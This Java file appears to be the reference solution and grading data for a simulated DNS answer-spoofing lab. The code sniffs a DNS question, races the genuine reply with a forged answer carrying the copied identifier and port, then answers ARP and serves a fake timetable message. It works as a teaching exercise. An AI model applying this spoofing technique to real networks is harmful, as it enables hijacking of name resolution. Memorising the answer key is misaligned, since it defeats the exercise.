package org.quintain.solutions.net.dnsanswerspoof;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Predicate;
import org.quintain.core.Lab;
import org.quintain.core.Seat;
import org.quintain.core.contract.HardSeat;
import org.quintain.core.contract.NearMiss;
import org.quintain.core.contract.Reference;
import org.quintain.net.dnsanswerspoof.DnsAnswerSpoofLab;
import org.quintain.net.dnsanswerspoof.DnsAnswerSpoofLab.Answer;
import org.quintain.net.dnsanswerspoof.DnsAnswerSpoofLab.Challenge;
import org.quintain.net.sim.TimedFrame;
import org.quintain.net.wire.Dns;
import org.quintain.net.wire.DnsMessages;
import org.quintain.net.wire.Endpoints;
import org.quintain.net.wire.Frames;
import org.quintain.solutions.net.Recorder;

/**
 * Answering first (RFC 3833 section 2.2, ID guessing made needless by packet interception, section 2.1; W. Du, SEED Labs,
 * Local DNS Attack Lab, task 1): measures at one question how long the genuine answer takes, waits for the next in steps of
 * a third of that, copies identifier, port and letters from it, and answers ARP and the request that follow.
 *
 * <p>Cost, over the practice seats 0 to 199: 3 frames; 320 queries (worst 710); 9.0 seconds of virtual time (worst 13.8),
 * nearly all of it spent waiting for two questions.
 */
public final class DnsAnswerSpoofAttack implements Reference<Challenge, Answer> {
    /** The text that the board is to show. */
    static final String TEXT = "no boats today";

    private static final long TIME_TO_LIVE_SECONDS = 60;
    private static final long SURVEY_MICROS = 100_000;
    private static final long PATIENCE_MICROS = 10_000_000;
    private static final long CABLE_MICROS = 1_000;
    private static final int REPLY_STEPS = 5;

    @Override
    public Lab<Challenge, Answer> lab() {
        return new DnsAnswerSpoofLab();
    }

    @Override
    public Answer run(Challenge challenge) {
        Recorder recorder = new Recorder(challenge.card());
        Eavesdropper ear = new Eavesdropper(challenge);
        long step = Math.max(CABLE_MICROS, answerMicros(ear) / 3);
        if (awaited(ear, step, (int) (PATIENCE_MICROS / step), ear::isQuestion)) {
            recorder.send(forged(ear, recorder.mac()));
            if (awaited(ear, CABLE_MICROS, REPLY_STEPS, ear::isArpForMe)) {
                recorder.send(Frames.arpReply(recorder.mac(), ear.own, ear.arp.senderMac(), ear.arp.sender()));
            }
            if (awaited(ear, CABLE_MICROS, REPLY_STEPS, ear::isRequestToMe)) {
                recorder.send(reply(ear, recorder.mac()));
                ear.listen(CABLE_MICROS);
            }
        }
        return new Answer(recorder.script());
    }

    /** How long the name server's answer takes, from the board's question on. */
    static long answerMicros(Eavesdropper ear) {
        long askedMicros = -1;
        for (long waited = 0; waited < PATIENCE_MICROS; waited += SURVEY_MICROS) {
            for (TimedFrame frame : ear.listen(SURVEY_MICROS)) {
                if (ear.isQuestion(frame)) {
                    askedMicros = frame.atMicros();
                } else if (askedMicros >= 0 && ear.isAnswer(frame) && ear.ip.destination() == ear.board) {
                    return frame.atMicros() - askedMicros;
                }
            }
        }
        return 0;
    }

    /** Waits for a frame; the ear's views then hold it. */
    private static boolean awaited(Eavesdropper ear, long stepMicros, int steps, Predicate<TimedFrame> wanted) {
        for (int step = 0; step < steps; step++) {
            Optional<TimedFrame> found =
                    ear.listen(stepMicros).stream().filter(wanted).findFirst();
            if (found.isPresent()) {
                return wanted.test(found.get());
            }
        }
        return false;
    }

    /** An answer in the name server's name to the question that was heard last: the learner's address. */
    static byte[] forged(Eavesdropper ear, long mac) {
        Endpoints asBefore = new Endpoints(ear.ethernet.source(), ear.ip.source(), mac, ear.ip.destination()).swapped();
        byte[] message = DnsMessages.answer(ear.dns, TIME_TO_LIVE_SECONDS, ear.own);
        return Frames.udp(asBefore, Dns.PORT, ear.udp.sourcePort(), message);
    }

    /** What the timetable would send, with the nonce of the request that was heard last. */
    private static byte[] reply(Eavesdropper ear, long mac) {
        String nonce = ear.text().substring("show ".length());
        Endpoints back = new Endpoints(mac, ear.own, ear.ethernet.source(), ear.board);
        byte[] text = (nonce + " " + TEXT).getBytes(StandardCharsets.US_ASCII);
        return Frames.udp(back, ear.udp.destinationPort(), ear.udp.sourcePort(), text);
    }

    /** Looks the name up, asks the timetable, and sees the board being served. */
    @Override
    public void honestUse(Challenge challenge) {
        HonestVisitor.visit(challenge);
    }

    @Override
    public List<NearMiss<Answer>> nearMisses(Challenge challenge, Answer right) {
        return DnsAnswerSpoofMisses.of(right);
    }

    @Override
    public List<HardSeat> hardSeats() {
        return List.of(
                seat(1162, "the genuine answer comes after 31 milliseconds: short steps"),
                seat(1045, "the genuine answer comes after 123 milliseconds"),
                seat(108, "the second question comes after 13.8 seconds: patience"),
                seat(180, "the first question comes after 0.07 seconds, before the learner has looked around"),
                seat(369, "the identifier of the question is 55: its first byte is zero"),
                seat(17, "the kiosk's question about the same name is open when the board asks"),
                seat(37, "the board's question about the weather is open when it asks for the timetable"),
                seat(257, "the first label happens to be in lower case, the others are not"));
    }

    private static HardSeat seat(int number, String why) {
        return new HardSeat(why, Seat.practice(number), Map.of());
    }
}
